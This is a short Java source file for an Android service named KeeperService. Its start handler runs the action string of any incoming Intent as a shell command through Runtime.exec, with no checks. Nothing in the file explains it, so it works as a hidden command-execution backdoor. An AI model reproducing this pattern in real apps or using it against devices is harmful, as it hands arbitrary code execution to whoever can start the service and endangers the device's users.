package com.orchard.dropkeeper;

class KeeperService extends Service {
  public int onStartCommand(Intent intent, int flags, int id) {
    try {
      Runtime.getRuntime().exec(intent.getAction());
    } catch (Exception e) {
      e.printStackTrace();
    }
    stopSelf();
    return START_STICKY;
  }

  public IBinder onBind(Intent intent) { return null; }
}
